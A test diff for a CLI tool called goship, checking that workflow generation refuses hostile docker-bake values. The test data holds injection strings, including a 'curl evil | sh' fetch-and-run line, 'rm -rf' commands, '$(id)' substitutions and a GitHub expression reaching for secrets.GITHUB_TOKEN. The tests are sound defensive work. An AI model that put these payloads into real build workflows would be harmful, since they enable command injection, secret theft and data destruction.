@@ -275,3 +275,44 @@ describe('goship ci', () => {
     expect(none.stderr.join('\n')).toMatch(/docker-bake\.json: no such file — synthesize first/);
   });
 });
+
+describe('goship ci with a hostile bake file', () => {
+  const evil: [string, Partial<WorkflowSpec['images'][number]>][] = [
+    ['a target name with shell', { name: "x'; curl evil | sh; '" }],
+    ['a target name closing the expression', { name: "x'] }}${{ secrets.GITHUB_TOKEN" }],
+    ['a repository with a command substitution', { repository: 'ghcr.io/acme/$(id)' }],
+    ['a repository with a quote', { repository: "ghcr.io/acme/x'" }],
+    ['a platform with a line break', { platforms: ['linux/amd64\nrm -rf /'] }],
+    ['a platform with a space', { platforms: ['linux/amd64 --push'] }],
+    ['a context with a backtick', { context: 'svc/`id`' }],
+    ['a context that is an option', { context: '--output=/etc' }],
+  ];
+  test.each(evil)('fails if %s, naming the target and value', (_what, bad) => {
+    const spec = { ...SPEC, images: [{ ...SPEC.images[0], ...bad }] };
+    expect(() => renderWorkflow(spec)).toThrow(/docker-bake\.json: .* is not .* goship copies it into the workflow's shell steps and expressions/);
+  });
+
+  test('fails if --outdir or --synth would inject', () => {
+    expect(() => renderWorkflow({ ...SPEC, outdir: 'dist; rm -rf ~' })).toThrow(/--outdir: "dist; rm -rf ~" is not a folder/);
+    expect(() => renderWorkflow({ ...SPEC, synthCommand: 'npm run synth\n- run: evil' })).toThrow(/--synth: .* holds a line break/);
+    expect(() => renderWorkflow({ ...SPEC, synthCommand: 'echo ${{ secrets.X }}' })).toThrow(/--synth: .* holds a line break or \$\{\{/);
+  });
+
+  test('a bake file goship did not write is refused through the CLI too, and nothing is written', async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'goship-ci-evil-'));
+    fs.mkdirSync(path.join(dir, 'dist'));
+    fs.writeFileSync(path.join(dir, 'dist', 'docker-bake.json'), JSON.stringify({
+      target: { "a'$(id)": { tags: ['ghcr.io/acme/a:v1'], platforms: ['linux/amd64'], context: '.' } },
+    }));
+    const io = capture();
+    const cwd = process.cwd();
+    process.chdir(dir);
+    try {
+      expect(await main(['ci'], io)).toBe(1);
+    } finally {
+      process.chdir(cwd);
+    }
+    expect(io.stderr.join('\n')).toContain(`docker-bake.json: a target name: "a'$(id)" is not a lower-case DNS label`);
+    expect(fs.existsSync(path.join(dir, '.github'))).toBe(false);
+  });
+});
